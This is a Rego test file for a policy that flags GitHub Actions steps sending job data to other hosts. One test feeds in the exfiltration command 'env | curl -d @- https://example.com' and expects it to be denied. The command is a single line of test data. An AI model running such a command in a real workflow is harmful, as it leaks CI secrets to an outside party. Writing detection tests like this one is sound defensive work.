package policies.github_actions.no_data_sent_away_test

import data.policies.github_actions.no_data_sent_away

_step(config) := {"subject": {"address": "jobs.a.steps[0]", "config": config}}

test_deny_environment_sent if {
	findings := no_data_sent_away.deny with input as _step({"run": "env | curl -d @- https://example.com"})
	findings == {{
		"message": "jobs.a.steps[0] sends secrets of the job to another host",
		"path": ["run", "env | curl -d @- https://example.com"],
	}}
}

test_allow_request if {
	findings := no_data_sent_away.deny with input as _step({"run": "curl -fsS https://example.com/health"})
	findings == set()
}

test_applies_to_scripts if {
	no_data_sent_away.applies with input as _step({"run": "ls"})
	not no_data_sent_away.applies with input as _step({"uses": "a/b@c"})
}
